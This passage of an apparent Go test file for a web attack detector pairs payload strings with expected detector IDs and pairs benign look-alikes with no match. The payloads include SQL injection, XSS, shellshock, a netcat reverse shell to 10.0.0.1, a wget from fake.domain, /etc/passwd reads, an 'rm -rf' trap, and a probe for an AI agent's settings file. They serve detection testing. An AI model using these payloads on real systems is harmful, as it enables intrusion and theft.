		{`1)) rlike (select (case when (7689=7689) then 1 else 0x28 end)) and ((4279=4279`, InQuery, "sqli.tokenizer"},
		{`Pick one, (select all that apply)`, InField, ""},
		{`ping.exe -n 31 127.0.0.1`, InQuery, "rce.shell"},
		{`copy myfile from '/etc/passwd'; `, InQuery, "sqli.tokenizer"},
		{`COPY t TO PROGRAM 'id'`, InQuery, "sqli.tokenizer"},
		{`create table myfile (input TEXT); load data infile '/etc/hosts' into table myfile;`, InQuery, "sqli.internals"},
		{`copy the report from the shared drive`, InField, ""},
		{`url=javascript:alert(1)`, InHeader, "xss.html"},
		{`0;url=javascript:alert(1)`, InQuery, "xss.html"},
		{`url=https://example.com/`, InQuery, ""},
		{`/https://evil.example/`, InQuery, "redir.url"},
		{`/http:/evil.example`, InField, "redir.url"},
		{`/proxy/https://example.com/`, InQuery, ""},
		{`https://www.whitelisteddomain.tld@google.com/`, InQuery, "redir.url"},
		{`https://user:secret@files.example.com/x`, InQuery, ""},
		{`https://john.doe@example.com`, InField, "redir.url"},
		{`mailto:john.doe@example.com`, InField, ""},
		{`style=-moz-binding:url(http://h4k.in/mozxss.xml#xss);" a="`, InQuery, "xss.html"},
		{`<img STYLE="xss:expr/*XSS*/ession(document.vulnerable=true)">`, InField, "xss.html"},
		{`the style=compact option: see /usr/share/doc`, InField, ""},
		{`<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`, InField, "xss.html"},
		{`ssh '-oProxyCommand="touch /tmp/foo"' foo@foo`, InQuery, "rce.shell"},
		{`chrome '--gpu-launcher="id>/tmp/foo"'`, InQuery, "rce.shell"},
		{`tar cf x.tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh`, InField, "rce.shell"},
		{`ping%CommonProgramFiles:~10,-18%127.0.0.1`, InQuery, "rce.shell"},
		{`echo whoami|$0`, InQuery, "rce.shell"},
		{`/\i
/////s\h`, InQuery, "rce.shell"},
		{"wh``oami", InQuery, "rce.shell"},
		{`@^p^o^w^e^r^shell c:\*\*32\c*?c.e?e`, InQuery, "rce.shell"},
		{`X=$'uname -a'&&$X`, InQuery, "rce.shell"},
		{`price is 5$ | $X marks the spot`, InField, ""},
		{`the ssh option -o ProxyJump is simpler`, InField, ""},
		{`a|^id$`, InField, ""},
		{`logs/access.log`, InQuery, ""},
		{`/logs/error.log`, InQuery, ""},
		{`../../logs/access.log`, InQuery, "ptrav.file"},
		{`LC & NC - Boys038-XL.jpg`, InQuery, ""},
		{`x & NC -e /bin/sh 10.0.0.1 4444`, InQuery, "rce.shell"},
		{`x & WHOAMI`, InQuery, "rce.shell"},
		{"foo\r\n() { :; }just a test", InQuery, ""},
		{`() { :; }; /bin/bash -c id`, InHeader, "rce.shell"},
		{`() { :;}`, InHeader, "rce.shell"},
		{`() { _;}>_[$($())] { echo x;}`, InHeader, "rce.shell"},
		{`().{.:;.};.wget /tmp/foo http://fake.domain`, InHeader, "rce.shell"},
		{`() { function a a>\ bash -c echo`, InHeader, "rce.shell"},
		{`clearly()not{ shell:shock;}`, InQuery, ""},
		{`() => { return 1 }`, InField, ""},
		// cmd.exe FOR and IF.
		{`for /f "delims=" %i in ('cmd /c whoami') do @echo %i`, InQuery, "rce.shell"},
		{`& FOR %_ IN (a,b,c) DO cmd`, InQuery, "rce.shell"},
		{`FOR /L /L %a IN (start,step,end)DO abc`, InQuery, "rce.shell"},
		{`IF NOT EXIST C:\nonexistent echo hey`, InQuery, "rce.shell"},
		{`IF %ERRORLEVEL% EQU 2 goto sub_problem2`, InQuery, "rce.shell"},
		{`For 20% in (most) cases, we do nothing`, InField, ""},
		{`IF NOT DEFINED _example ECHO Value Missing`, InQuery, "rce.shell"},
		{`IF /I Red==red echo test`, InQuery, "rce.shell"},
		{`if not (2 equ 2) echo hey`, InQuery, "rce.shell"},
		{`if "%VAR%" == "after" @echo ok`, InQuery, "rce.shell"},
		{`if defined by the user, we use it`, InField, ""},
		{`if not defined yet`, InField, ""},
		{`if (x == y) return x;`, InField, ""},
		{`if [ "$a" == "$b" ]; then echo`, InField, ""},
		{`{% if user == admin %}`, InField, ""},
		// Bracket globs, process substitution, trap, $SHELL.
		{`cat /etc/pa[s]swd`, InQuery, "rce.shell"},
		{`cat /[?]tc/pa[?]swd`, InQuery, "rce.shell"},
		{`/bi[n]/bash`, InQuery, "rce.shell"},
		{`>(tee log)`, InQuery, "rce.shell"},
		{`;trap 'rm -rf file.txt' SIGEXIT`, InQuery, "rce.shell"},
		{`$SHELL -c "echo hi"`, InQuery, "rce.shell"},
		{`time; ansible-config dump`, InField, "rce.shell"},
		{`[x] done /home/me`, InField, ""},
		{`3 >(2+1)`, InField, ""},
		{`if it exists, we do it`, InField, ""},
		// Wrappers, cd, alias, administration tools.
		{`time sh -c whoami`, InField, "rce.shell"},
		{`;cpulimit -l 100 -f whoami`, InField, "rce.shell"},
		{`cd /;cd etc;column passwd`, InField, "rce.shell"},
		{`alias a=c${KK}url&a google.com`, InField, "rce.shell"},
		{`ansible-config dump`, InField, "rce.shell"},
		{`time; visudo`, InField, "rce.shell"},
		{`it is time to go home`, InField, ""},
		{`also known as (alias) the Boss`, InField, ""},
		{`we use ansible and chef at work`, InField, ""},
		{`chef-owned restaurant downtown`, InField, ""},
		{`chef-client -t 1.1.1.1`, InField, "rce.shell"},
		// Java gadgets.
		{`org.apache.commons.collections.functors.InvokerTransformer`, InField, "rce.java"},
		{`java.lang.Runtime`, InField, "rce.java"},
		{`I drink java. Lang classes are fun`, InField, ""},
		// Script without a tag.
		{`document.cookie=941180-2`, InField, "xss.dom"},
		{`document /*foo*/ .     cookie`, InField, "xss.dom"},
		{`document['cookie']`, InField, "xss.dom"},
		{`document.body.appendChild(document.createElement("h1"))`, InField, "xss.dom"},
		{`(![]+[])[+!+[]]`, InField, "xss.dom"},
		{`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, InField, "xss.dom"},
		{`window['al'+'ert'](1)`, InField, "xss.dom"},
		{`self['eval'](x)`, InField, "xss.dom"},
		{`parent['con'+'firm']` + "`1`", InField, "xss.dom"},
		{`window[cb](data)`, InField, ""},
		{`window['myFn'](x)`, InField, ""},
		{`the document. Cookies are small files`, InField, ""},
		{`see the document.cookies policy`, InField, ""},
		{`array[] and list[0]`, InField, ""},
		// Quoted symbols explained in words, beside concatenation probes.
		{`'+' always print a sign`, InField, ""},
		{`admin'+'`, InField, "sqli.libinjection"},
		// Serialized objects and PHP calls through variables.
		{`O:8:"stdClass":1:{s:1:"a";i:2;}`, InQuery, "rce.serialized"},
		{`{"rce":"_$$ND_FUNC$$_function(){}()"}`, InField, "rce.serialized"},
		{`this.constructor.constructor('return process')()`, InField, "rce.serialized"},
		{`$__[$_[1]](7)`, InField, "rce.varcall"},
		{`${@a}(10)`, InField, "rce.varcall"},
		{`$_aB_4c/*foo*/[@5]/*bar*/[@d]/*baz*/(19)`, InField, "rce.varcall"},
		{`$foo->$funcname()`, InField, "rce.varcall"},
		{`Price in $USD (before tax)`, InField, ""},
		{`$(".menu").hide()`, InField, ""},
		{`this.$emit('save')`, InField, ""},
		{`pay $5(cash)`, InField, ""},
		// Database internals and PostgreSQL casts.
		{`1' and unistr(password)::bool--`, InQuery, "sqli.internals"},
		{`OR '{"b":2}'::jsonb <@ '{"a":1}'::jsonb`, InQuery, "sqli.internals"},
		{`lo_import('/etc' || '/passwd')`, InQuery, "sqli.internals"},
		{`" WAITFOR DELAY '0:0:5`, InField, "sqli.internals"},
		{`2001:db8::1`, InQuery, ""},
		{`use std::string here, f(x)::later is fine`, InField, ""},
		{`select * from information_schema.tables`, InField, ""},
		// Any function's call as the condition after a quote breakout.
		{`admin@example.com' or sqlite_compileoption_used (id)--`, InField, "sqli.tokenizer"},
		{`x' and not f(1)=1`, InField, "sqli.tokenizer"},
		{`it's or maybe(not) the case`, InField, ""},
		{`1 or f(x) is what we want`, InField, ""},
		// Globbed program names, shells running their argument, net.
		{`;/???/c?t /???/p??s??`, InField, "rce.shell"},
		{`;/bin/ca? /etc/pa??wd`, InField, "rce.shell"},
		{`see; /usr/bin/env? yes`, InField, ""},
		{`x; /var/log/*.log are rotated`, InField, ""},
		{`cmd.exe /c whoami`, InField, "rce.shell"},
		{`powershell -enc aQBkAA==`, InField, "rce.shell"},
		{`I use sh -c often`, InField, ""},
		{`| net user`, InField, "rce.shell"},
		{`the net view is nice`, InField, ""},
		{`$(printf 'id')`, InField, "rce.shell"},
		// PHP tags and functions called by quoted names.
		{`<?php echo "test"`, InField, "rce.code"},
		{`<? echo test`, InField, "rce.code"},
		{`<?xml version="1.0"?>`, InField, ""},
		{`("sys"."tem")("id");`, InField, "rce.code"},
		{`"system"(ls);`, InField, "rce.code"},
		{`I said "system" (loudly)`, InField, ""},
		{`the "exec"(executive) team`, InField, ""},
		{`eVAl("echo 1;");`, InField, "rce.code"},
		{`we eval (the code) later`, InField, ""},
		// Prototype pollution.
		{`__proto__[isAdmin]`, InName, "rce.prototype"},
		{`a[__proto__][b]`, InName, "rce.prototype"},
		{`constructor[prototype][x]`, InName, "rce.prototype"},
		{`a.__proto__.b`, InField, "rce.prototype"},
		{`__proto__`, InName, "rce.prototype_key"},
		{`the __proto__ property is deprecated`, InField, ""},
		{`Object.prototype.x`, InField, ""},
		// SQL conditions and probes written to be appended.
		{`or 1=1`, InQuery, "sqli.tokenizer"},
		{`AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)`, InQuery, "sqli.tokenizer"},
		{`select sleep(5)`, InField, "sqli.tokenizer"},
		{`SELECT @@version`, InField, "sqli.tokenizer"},
		{`ORDER BY 10--`, InQuery, "sqli.tokenizer"},
		{`Select User (admin)`, InField, ""},
		{`and then we left`, InField, ""},
		{`or 2 people`, InField, ""},
		{`Order by 5 -- thanks`, InField, ""},
		// Java classes named whole.
		{`java.io.BufferedInputStream`, InField, "rce.java"},
		{`com.opensymphony.xwork2`, InName, "rce.java"},
		{`org.apache.commons`, InCookie, "rce.java"},
		{`java.Runtime`, InName, "rce.java"},
		{`java.lang.NullPointerException`, InField, ""},
		{`java.io.File is the class to use`, InField, ""},
		{`java.util.List`, InField, ""},
		// Upload names.
		{`shell. jspx`, InFilename, "rce.upload"},
		// PHP calls hidden from "system(" and short tags.
		{"exec\n('bar')", InQuery, "rce.code"},
		{"exec //comment\r\n (blah)", InQuery, "rce.code"},
		{`(sy.(st).em)('uname');`, InQuery, "rce.code"},
		{`system(whoami)`, InField, "rce.code"},
		{`<?= "test"`, InQuery, "rce.code"},
		{`<? php echo "test"`, InQuery, "rce.code"},
		{"I will exec\n(the plan)", InField, ""},
		{`the system (whoami) page`, InField, ""},
		{`our system(s) are down`, InField, ""},
		// Node.js globals.
		{`process.env`, InQuery, "rce.node"},
		{`process["mainModule"]`, InQuery, "rce.node"},
		{`#{process.binding('spawn_sync')}`, InField, "rce.node"},
		{`module.exports=`, InQuery, "rce.node"},
		{`the process. Env vars are next`, InField, ""},
		{`set NODE_ENV in process.env to choose`, InField, ""},
		// Script probes as the whole value, parenthesized document.
		{`alert(1)`, InQuery, "xss.call"},
		{"confirm`1`", InQuery, "xss.call"},
		{`new Function(x)()`, InField, "xss.call"},
		{`setTimeout("alert(1)", 0)`, InField, "xss.call"},
		{`setTimeout(fn, 100)`, InField, ""},
		{`Please alert(me) when done`, InField, ""},
		{`alerts(1)`, InField, ""},
		{`(document/*foo*/)["cookie"]`, InField, "xss.dom"},
		// A delay stacked after the query.
		{`; sleep(0)`, InQuery, "sqli.tokenizer"},
		// A line break inside a key; a script on a bare IP address.
		{"parameter\r\nx", InName, "crlf.header"},
		{"parameter\r\n", InName, ""},
		{`http://66.240.183.75/crash.php`, InField, "rfi.url"},
		{`http://shop.example.com/item.php`, InField, ""},
		// Server-side includes.
		{`<!--#exec cmd="ls" -->`, InQuery, "rce.ssi"},
		{`<!--#include virtual="/etc/passwd" -->`, InField, "rce.ssi"},
		{`<!--#echo var="DOCUMENT_ROOT" -->`, InHeader, "rce.ssi"},
		{`<!--#printenv -->`, InField, "rce.ssi"},
		{`<!-- #config timefmt="%y" -->`, InField, "rce.ssi"},
		{`<!--# of items-->`, InField, ""},
		{`<!--#settings-->`, InField, ""},
		// A Referer that is a bare file path, not a URL.
		{`/proc/self/cmdline`, InHeader, "ptrav.file"},
		// Probes of AI agents' configuration.
		{`/.claude/settings.json`, InPath, "scanner.probe"},
		{`/blog/claude-review`, InPath, ""},
	}
	for _, tc := range cases {
		ids := scanIDs(tc.v, tc.where)
		if tc.where == InHeader {
			ids = map[string]bool{}
			Scan(tc.v, &Context{Where: InHeader, Header: "referer"}, nil, func(m Match) { ids[m.DetectorID] = true })
		}
		if tc.id == "" {
			if len(ids) > 0 {
				t.Errorf("%q: flagged by %v, want nothing", tc.v, ids)
			}
			continue
		}
		if !ids[tc.id] {
			t.Errorf("%q: %s did not match (got %v)", tc.v, tc.id, ids)
		}
	}
}
